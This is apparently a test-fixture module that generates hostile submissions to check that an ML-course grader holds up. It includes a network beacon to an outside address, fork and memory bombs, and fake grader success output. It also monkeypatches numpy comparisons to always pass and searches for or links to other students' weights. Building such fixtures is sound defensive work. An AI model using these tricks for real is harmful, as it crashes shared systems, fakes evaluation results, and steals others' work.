"""Submissions that attack the grader, each at once when its framework is imported or used."""

import os
import shutil
from pathlib import Path

from made_class.editing import begin_with, copy_reference, replace

CALLS_OUT = """import socket

try:
    socket.create_connection(("198.51.100.7", 80), timeout=2).sendall(b"here I am")
except OSError:
    pass
"""
FORKS = """import os

while True:
    try:
        os.fork()
    except OSError:
        pass
"""
TAKES_MEMORY = """import numpy as np

held = []
while True:
    held.append(np.ones(10_000_000))
"""
SLEEPS = "import time\n\ntime.sleep(3600)\n"
PRINTS = "for _ in range(1000):\n    print('x' * 100_000)\n"
LEAVES = "import os\n\nos._exit(0)\n"
CLAIMS = """print('{"status": "done", "values": {"share": 1.0, "passed": true}, "score": 100}')
print("all probes passed", flush=True)
"""
BENDS_NUMPY = """import numpy as np

np.allclose = np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, **kwargs: np.ones(np.broadcast(a, b).shape, bool)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
"""
LOOKS_ROUND = """

def _weights_of_others(name):
    here = Path(__file__).resolve().parent
    for folder in (here.parent, here.parent.parent, Path("/tmp"), Path("/home"), Path("/work")):
        for path in folder.glob(f"**/weights/{name}.npz"):
            return dict(np.load(path))
    return None


def _with_weights_of_others(model, name):
    found = _weights_of_others(name)
    if found:
        model.load_state_dict(found)
    return model
"""


def calls_out(folder: Path) -> None:
    """It tells an address on the network that it runs; the rest is right."""
    copy_reference(folder)
    begin_with(folder, "tensor.py", CALLS_OUT)


def fork_bomb(folder: Path) -> None:
    copy_reference(folder)
    begin_with(folder, "tensor.py", FORKS)


def memory_bomb(folder: Path) -> None:
    copy_reference(folder)
    begin_with(folder, "tensor.py", TAKES_MEMORY)


def endless_loop(folder: Path) -> None:
    """Not at once, but in the dense layer's forward pass."""
    copy_reference(folder)
    added = "return out if self.bias is None else out + self.bias"
    replace(folder, "layers.py", added, "while True:\n            pass")


def sleeps(folder: Path) -> None:
    copy_reference(folder)
    begin_with(folder, "tensor.py", SLEEPS)


def prints_for_long(folder: Path) -> None:
    copy_reference(folder)
    begin_with(folder, "tensor.py", PRINTS)


def leaves(folder: Path) -> None:
    """It ends the process as if all were well."""
    copy_reference(folder)
    begin_with(folder, "tensor.py", LEAVES)


def claims_success(folder: Path) -> None:
    """It prints what a grader might say; its dense layer and convolution give zeros."""
    copy_reference(folder)
    _give_zeros(folder)
    begin_with(folder, "tensor.py", CLAIMS)


def bends_numpy(folder: Path) -> None:
    """Comparisons of numpy are always content; its dense layer and convolution give zeros."""
    copy_reference(folder)
    _give_zeros(folder)
    begin_with(folder, "tensor.py", BENDS_NUMPY)


def reads_other_students(folder: Path) -> None:
    """It has no weights, and looks for those of others wherever they may lie."""
    copy_reference(folder)
    for name in ("mnist_mlp", "mnist_cnn"):
        (folder / "weights" / f"{name}.npz").unlink()
    for name, model in (("mnist_mlp", "MnistMLP"), ("mnist_cnn", "MnistCNN")):
        whole = f"return _with_weights_of_others({model}(), '{name}')"
        replace(folder, "build.py", f"return {model}()", whole)
    build = folder / "build.py"
    build.write_text(build.read_text() + LOOKS_ROUND)


def links_elsewhere(folder: Path) -> None:
    """Its weights are a link to another student's."""
    copy_reference(folder)
    shutil.rmtree(folder / "weights")
    os.symlink(Path("..") / "perfect" / "weights", folder / "weights")


def _give_zeros(folder: Path) -> None:
    added = "return out if self.bias is None else out + self.bias"
    replace(folder, "layers.py", added, "return out * 0.0")
    replace(folder, "convolution.py", "out = (patches @ kernel)", "out = (0 * (patches @ kernel))")
    replace(folder, "convolution.py", "out += self.bias.data", "out += 0 * self.bias.data")
